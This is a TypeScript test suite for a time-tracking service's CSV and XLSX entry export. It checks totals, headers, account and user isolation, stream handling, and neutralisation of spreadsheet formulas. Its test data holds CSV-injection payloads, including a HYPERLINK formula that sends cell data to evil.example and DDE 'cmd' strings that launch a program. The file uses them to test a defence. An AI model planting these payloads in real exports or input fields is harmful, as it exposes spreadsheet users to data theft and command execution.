// Exports (service/reports/export-entries.ts): a filtered list of entries as CSV or XLSX, read
// back the way a spreadsheet user's tools read it (csv-parse, exceljs): the same entries and
// totals as the report, the account's custom-field labels as headers, no row of another account
// or (for a standard user) of a colleague, and no formula smuggled in through a comment.
import { PassThrough, Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { iterateEntries } from '../../service/reports/entry-query.js';
import { exportColumns } from '../../service/reports/export-columns.js';
import { exportEntries, exportFileName } from '../../service/reports/export-entries.js';
import { writeXlsx } from '../../service/reports/xlsx-writer.js';
import type { ExportOptions } from '../../service/reports/export-entries.js';
import { buildReport } from '../../service/reports/report-query.js';
import { loadReportAccount, scopeOf, wholeAccount } from '../../service/reports/report-scope.js';
import type { EntryFilter, ReportAccount, ReportScope } from '../../service/reports/report-scope.js';
import type { DatabaseHandle } from '../../service/storage/database.js';
import type { Database } from '../../service/storage/schema.js';
import { testDatabases } from '../helpers/databases.js';
import type { TestDatabasePlace } from '../helpers/databases.js';
import { parseCsv, seedDemoYear, seedSecondAccount } from '../helpers/reports.js';

const NOW = Date.UTC(2026, 10, 20, 15, 0, 0);
const FILTER: EntryFilter = { from: '2026-06-01', to: '2026-09-30' };

/** Comments a user could type to make a spreadsheet run something (OWASP CSV injection). */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', '+1+2', '-3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const AWKWARD = 'Müller; "Angebot", Zeile 1\nZeile 2';

async function exported(database: DatabaseHandle, scope: ReportScope, filter: EntryFilter, account: ReportAccount, options: ExportOptions) {
  const chunks: Buffer[] = [];
  const out = new PassThrough();
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const result = await exportEntries(database, scope, filter, account, out, options);
  out.end();
  return { result, bytes: Buffer.concat(chunks) };
}

describe.each(testDatabases)('exports on $name', (kind) => {
  let place: TestDatabasePlace;
  let database: DatabaseHandle;
  let db: Kysely<Database>;
  let accountId: number;
  let account: ReportAccount;
  let jana: number;
  let otherEntryIds: Set<number>;

  beforeAll(async () => {
    place = await kind.create();
    database = await place.open();
    db = database.db;
    ({ accountId, users: { jana } } = await seedDemoYear(db, NOW, 6000));
    const project = await db.selectFrom('projects').select('id').where('account_id', '=', accountId).where('name', '=', 'Website-Relaunch').executeTakeFirstOrThrow();
    await db.insertInto('time_entries').values([...HOSTILE, AWKWARD].map((comment, i) => ({
      account_id: accountId, type_id: 2, user_id: jana, project_id: project.id, task_id: null,
      start_time: Date.UTC(2026, 6, 1, 8 + i), end_time: Date.UTC(2026, 6, 1, 8 + i, 30), comment, billable: 1 as const, locked: 0 as const,
      custom1: i === 0 ? '=1+1' : null, last_change_time: NOW, last_change_author: jana,
    }))).execute();
    account = await loadReportAccount(db, accountId);

    const otherAccountId = await seedSecondAccount(db, NOW, 1000);
    otherEntryIds = new Set((await db.selectFrom('time_entries').select('id').where('account_id', '=', otherAccountId).execute()).map((row) => row.id));
  }, 120_000);
  afterAll(() => place?.dispose());

  it('writes a German CSV (BOM, `;`, decimal comma) whose rows and totals are the report\'s, headed by the custom-field labels', async () => {
    const { result, bytes } = await exported(database, wholeAccount(accountId), FILTER, account, { format: 'csv', delimiter: ';', batchSize: 500 });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('\r\n');
    const [header, ...rows] = parseCsv(bytes, ';');
    expect(header).toEqual(['ID', 'Datum', 'Beginn', 'Ende', 'Sekunden', 'Stunden', 'Mitarbeiter', 'E-Mail', 'Kunde', 'Projekt', 'Tätigkeit',
      'Kommentar', 'Abrechenbar', 'Gesperrt', 'Stundensatz (EUR)', 'Umsatz (EUR)', 'Ticket', 'Custom2', 'Custom3', 'Custom4', 'Custom5',
      'Projekt: Kostenstelle']);
    const report = await buildReport(database, wholeAccount(accountId), FILTER, account, { groupBy: 'project', period: 'month' });
    expect(rows).toHaveLength(report.total.entries);
    expect(result.entries).toBe(report.total.entries);
    expect(rows.reduce((sum, row) => sum + Number(row[4]), 0)).toBe(report.total.seconds);
    const revenueCents = rows.reduce((sum, row) => sum + (row[15] === '' ? 0 : Math.round(Number(row[15]?.replace(',', '.')) * 100)), 0);
    expect(revenueCents).toBe(Math.round(Number(report.total.revenue) * 100));
    expect(rows.every((row) => /^\d{4}-\d{2}-\d{2}$/.test(row[1] ?? '') && /^\d+,\d\d$/.test(row[5] ?? ''))).toBe(true);
    expect(rows.some((row) => row[21] === 'KST-100')).toBe(true);
    expect(rows.some((row) => otherEntryIds.has(Number(row[0])))).toBe(false);
    // Oldest first, on the account's wall clock (the 08:00Z entry is 10:00 in Berlin's summer).
    const first = rows.find((row) => row[11] === HOSTILE[1]?.replace(/^/, "'"));
    expect(first?.[2]).toBe('2026-07-01 11:00');
    expect(new Set(rows.map((row) => row[12]))).toEqual(new Set(['ja', 'nein']));
  });

  it('writes an English CSV with `,` and a decimal point when asked', async () => {
    const { bytes } = await exported(database, wholeAccount(accountId), FILTER, account, { format: 'csv', delimiter: ',', language: 'en' });
    const [header, ...rows] = parseCsv(bytes, ',');
    expect(header?.slice(0, 6)).toEqual(['ID', 'Date', 'Start', 'End', 'Seconds', 'Hours']);
    expect(header).toContain('Project: Kostenstelle');
    expect(rows.every((row) => /^\d+\.\d\d$/.test(row[5] ?? ''))).toBe(true);
    expect(rows.find((row) => row[11] === AWKWARD)).toBeDefined();
  });

  it('neutralises comments and custom fields that start like a formula, and keeps other text exact', async () => {
    const { bytes } = await exported(database, wholeAccount(accountId), { from: '2026-07-01', to: '2026-07-01', userId: jana }, account, { format: 'csv' });
    const text = bytes.toString('utf8');
    const comments = parseCsv(bytes, ';').slice(1).map((row) => row[11]);
    for (const hostile of HOSTILE) expect(comments).toContain(`'${hostile}`);
    expect(comments).toContain(AWKWARD);
    expect(text).toContain('"\'=1+1"');
    // No line (outside quotes) starts a cell with a formula character.
    for (const row of parseCsv(bytes, ';')) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes an XLSX whose typed cells read back with the same totals, labels as headers, and comments as plain strings', async () => {
    const { bytes } = await exported(database, wholeAccount(accountId), FILTER, account, { format: 'xlsx', batchSize: 700 });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (sheet === undefined) throw new Error('no sheet');
    expect(sheet.name).toBe('Zeiteinträge');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toContain('Ticket');
    expect(header).toContain('Projekt: Kostenstelle');
    const report = await buildReport(database, wholeAccount(accountId), FILTER, account, { groupBy: 'employee', period: 'total' });
    expect(sheet.rowCount).toBe(report.total.entries + 1);
    let seconds = 0;
    let revenueCents = 0;
    const comments = new Map<string, ExcelJS.ValueType>();
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      seconds += row.getCell(5).value as number;
      revenueCents += Math.round(Number(row.getCell(16).value ?? 0) * 100);
      expect(row.getCell(2).value).toBeInstanceOf(Date);
      expect(otherEntryIds.has(row.getCell(1).value as number)).toBe(false);
      const comment = row.getCell(12);
      if (typeof comment.value === 'string') comments.set(comment.value, comment.type);
    });
    expect(seconds).toBe(report.total.seconds);
    expect(revenueCents).toBe(Math.round(Number(report.total.revenue) * 100));
    for (const hostile of HOSTILE.slice(0, 4)) expect(comments.get(hostile)).toBe(ExcelJS.ValueType.String);
    expect(comments.get(AWKWARD)).toBe(ExcelJS.ValueType.String);
  });

  it('continues on a further sheet when a sheet is full', async () => {
    const filter = { from: '2026-06-01', to: '2026-06-30' };
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (chunk: Buffer) => chunks.push(chunk));
    const columns = exportColumns(account, 'de');
    const written = await writeXlsx(iterateEntries(database, wholeAccount(accountId), filter, account), columns, out, { sheetName: 'Zeiteinträge', rowsPerSheet: 200 });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const sheets = workbook.worksheets;
    expect(written).toBeGreaterThan(400);
    expect(sheets.length).toBe(Math.ceil(written / 200));
    expect(sheets.map((sheet) => sheet.name).slice(0, 3)).toEqual(['Zeiteinträge', 'Zeiteinträge (2)', 'Zeiteinträge (3)']);
    expect(sheets.reduce((sum, sheet) => sum + sheet.rowCount - 1, 0)).toBe(written);
    for (const sheet of sheets) expect(sheet.getRow(1).getCell(1).value).toBe('ID');
  });

  it('exports only the standard user\'s own entries', async () => {
    const scope = scopeOf({ accountId, userId: jana, isAdmin: false });
    const { bytes } = await exported(database, scope, {}, account, { format: 'csv', language: 'en', delimiter: ',' });
    const rows = parseCsv(bytes, ',').slice(1);
    expect(rows.length).toBeGreaterThan(100);
    expect(new Set(rows.map((row) => row[7]))).toEqual(new Set(['jana.schmidt@demo.example']));
    const own = await db.selectFrom('time_entries').select((eb) => eb.fn.countAll().as('n'))
      .where('account_id', '=', accountId).where('user_id', '=', jana).where('end_time', 'is not', null).executeTakeFirstOrThrow();
    expect(rows).toHaveLength(Number(own.n));
  });

  it('waits for a slow reader and fails, instead of hanging, when the reader goes away', async () => {
    let received = 0;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, done) {
        received += chunk.length;
        setTimeout(done, 1);
      },
    });
    const { entries } = await exportEntries(database, wholeAccount(accountId), { from: '2026-09-01' }, account, slow, { format: 'csv' });
    expect(entries).toBeGreaterThan(500);
    expect(received).toBeGreaterThan(50_000);

    for (const format of ['csv', 'xlsx'] as const) {
      const gone = new Writable({ highWaterMark: 1024, write(_chunk, _encoding, done) { setTimeout(done, 5); } });
      setTimeout(() => gone.destroy(), 30);
      await expect(exportEntries(database, wholeAccount(accountId), {}, account, gone, { format })).rejects.toThrow();
    }
  });

  it('names a download after its range', () => {
    expect(exportFileName(FILTER, 'xlsx')).toBe('zeiten-2026-06-01-2026-09-30.xlsx');
    expect(exportFileName({}, 'csv', 'en')).toBe('time-entries.csv');
  });
});
